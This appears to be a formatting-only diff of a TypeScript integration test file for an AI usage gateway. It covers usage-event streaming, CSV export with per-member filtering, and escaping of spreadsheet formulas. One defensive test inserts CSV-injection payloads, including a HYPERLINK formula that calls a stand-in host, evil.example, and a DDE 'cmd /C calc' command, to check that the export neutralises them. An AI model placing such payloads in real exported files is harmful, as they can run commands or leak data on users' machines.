@@ -5,8 +5,8 @@ import { parse as parseCsv } from 'csv-parse/sync';
 import { print } from 'graphql';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Simulator } from '../../src/simulator/simulator.js';
-import { addSimProvider, userMessage } from '../testkit/chat.js';
 import { graphql } from '../generated/gql.js';
+import { addSimProvider, userMessage } from '../testkit/chat.js';
 import { Chat, Models, UpdateProvider, UsageEvents, UsageTicks } from '../testkit/documents.js';
 import { disposeAll, newWorkspace, startSimulator, startTestServer, type TestServer } from '../testkit/server.js';
 import { take } from '../testkit/streams.js';
@@ -21,7 +21,18 @@ afterAll(disposeAll);
 
 const PROVIDER = randomUUID();
 const row = (at: string, overrides: Partial<LedgerRow> = {}): LedgerRow => ({
-  createdAt: new Date(at), providerId: PROVIDER, model: 'gpt-4o', agent: null, operation: null, userId: 'u1', status: 'SUCCEEDED', promptTokens: 10, completionTokens: 5, costMicros: 123n, durationMs: 40, ...overrides,
+  createdAt: new Date(at),
+  providerId: PROVIDER,
+  model: 'gpt-4o',
+  agent: null,
+  operation: null,
+  userId: 'u1',
+  status: 'SUCCEEDED',
+  promptTokens: 10,
+  completionTokens: 5,
+  costMicros: 123n,
+  durationMs: 40,
+  ...overrides,
 });
 const RANGE = { from: '2026-04-01T00:00:00Z', to: '2026-05-01T00:00:00Z' };
 
@@ -85,7 +96,7 @@ describe('usageTicks', () => {
     return { ticks: await received, calls: [{ tokens: answer.data!.chat.usage.totalTokens, costUsd: answer.data!.chat.usage.costUsd }] };
   }
 
-  it.each(['graphql-ws', 'SSE'] as const)('arrive over %s after a chat finishes, with the provider\'s counters', async (transport) => {
+  it.each(['graphql-ws', 'SSE'] as const)("arrive over %s after a chat finishes, with the provider's counters", async (transport) => {
     const workspace = newWorkspace();
     const token = await gw.token(workspace.claims('owner'));
     const provider = await addSimProvider(gw, sim, token);
@@ -146,8 +157,7 @@ describe('agent model preferences', () => {
 });
 
 describe('CSV export', () => {
-  const exportCsv = (token: string | undefined, query: string) =>
-    fetch(`${gw.url}/export/usage.csv?${query}`, { headers: token ? { authorization: `Bearer ${token}` } : {} });
+  const exportCsv = (token: string | undefined, query: string) => fetch(`${gw.url}/export/usage.csv?${query}`, { headers: token ? { authorization: `Bearer ${token}` } : {} });
 
   it('streams every row of the range across pages and round-trips through a CSV parser, quoting commas, quotes and line breaks', async () => {
     const workspace = newWorkspace();
@@ -171,17 +181,23 @@ describe('CSV export', () => {
     expect(records.map((r) => r.created_at)).toEqual([...records.map((r) => r.created_at)].sort());
   });
 
-  it('exports the grouped, zero-filled series with groupBy, and only the member\'s own rows for a member', async () => {
+  it("exports the grouped, zero-filled series with groupBy, and only the member's own rows for a member", async () => {
     const workspace = newWorkspace();
     const owner = await gw.token(workspace.claims('owner'));
     const member = await gw.token(workspace.claims('member', 'u2'));
     await insertLedgerRows(gw.db, workspace.id, [row('2026-04-02T10:00:00Z'), row('2026-04-02T11:00:00Z', { userId: 'u2', model: 'o3-mini' }), row('2026-04-04T10:00:00Z')]);
-    const grouped = parseCsv(await (await exportCsv(owner, `from=2026-04-01T00:00:00Z&to=2026-04-05T00:00:00Z&groupBy=MODEL&bucket=DAY`)).text(), { columns: true }) as Array<Record<string, string>>;
+    const grouped = parseCsv(await (await exportCsv(owner, `from=2026-04-01T00:00:00Z&to=2026-04-05T00:00:00Z&groupBy=MODEL&bucket=DAY`)).text(), { columns: true }) as Array<
+      Record<string, string>
+    >;
     expect(grouped.map((r) => [r.bucket_start.slice(0, 10), r.model, r.requests])).toEqual([
-      ['2026-04-01', 'gpt-4o', '0'], ['2026-04-01', 'o3-mini', '0'],
-      ['2026-04-02', 'gpt-4o', '1'], ['2026-04-02', 'o3-mini', '1'],
-      ['2026-04-03', 'gpt-4o', '0'], ['2026-04-03', 'o3-mini', '0'],
-      ['2026-04-04', 'gpt-4o', '1'], ['2026-04-04', 'o3-mini', '0'],
+      ['2026-04-01', 'gpt-4o', '0'],
+      ['2026-04-01', 'o3-mini', '0'],
+      ['2026-04-02', 'gpt-4o', '1'],
+      ['2026-04-02', 'o3-mini', '1'],
+      ['2026-04-03', 'gpt-4o', '0'],
+      ['2026-04-03', 'o3-mini', '0'],
+      ['2026-04-04', 'gpt-4o', '1'],
+      ['2026-04-04', 'o3-mini', '0'],
     ]);
     const own = parseCsv(await (await exportCsv(member, `from=${RANGE.from}&to=${RANGE.to}`)).text(), { columns: true }) as Array<Record<string, string>>;
     expect(own.map((r) => r.user_id)).toEqual(['u2']);
@@ -192,15 +208,23 @@ describe('CSV export', () => {
     const token = await gw.token(workspace.claims('owner'));
     const starts = ['=', '+', '-', '@', '\t', '\r'];
     const formulas = starts.map((start, i) => ({ model: `${start}1+${i}`, agent: `${start}HYPERLINK("http://evil.example/?${i}")`, operation: `${start}cmd|' /C calc'!A${i}` }));
-    await insertLedgerRows(gw.db, workspace.id, formulas.map((text, i) => row(`2026-04-02T0${i}:00:00Z`, { ...text, promptTokens: 7 + i })));
+    await insertLedgerRows(
+      gw.db,
+      workspace.id,
+      formulas.map((text, i) => row(`2026-04-02T0${i}:00:00Z`, { ...text, promptTokens: 7 + i })),
+    );
     const escaped = (text: string) => `'${text}`;
 
     const events = parseCsv(await (await exportCsv(token, `from=${RANGE.from}&to=${RANGE.to}`)).text(), { columns: true }) as Array<Record<string, string>>;
     expect(events.map((r) => [r.model, r.agent, r.operation])).toEqual(formulas.map((f) => [escaped(f.model), escaped(f.agent), escaped(f.operation)]));
     expect(events.map((r) => [r.prompt_tokens, r.cost_usd])).toEqual(formulas.map((_, i) => [String(7 + i), '0.000123']));
 
-    const grouped = parseCsv(await (await exportCsv(token, `from=2026-04-02T00:00:00Z&to=2026-04-03T00:00:00Z&groupBy=MODEL,AGENT,OPERATION&bucket=DAY`)).text(), { columns: true }) as Array<Record<string, string>>;
-    expect(new Set(grouped.map((r) => JSON.stringify([r.model, r.agent, r.operation])))).toEqual(new Set(formulas.map((f) => JSON.stringify([escaped(f.model), escaped(f.agent), escaped(f.operation)]))));
+    const grouped = parseCsv(await (await exportCsv(token, `from=2026-04-02T00:00:00Z&to=2026-04-03T00:00:00Z&groupBy=MODEL,AGENT,OPERATION&bucket=DAY`)).text(), {
+      columns: true,
+    }) as Array<Record<string, string>>;
+    expect(new Set(grouped.map((r) => JSON.stringify([r.model, r.agent, r.operation])))).toEqual(
+      new Set(formulas.map((f) => JSON.stringify([escaped(f.model), escaped(f.agent), escaped(f.operation)]))),
+    );
     expect(grouped.map((r) => r.requests)).toEqual(formulas.map(() => '1'));
   });
 
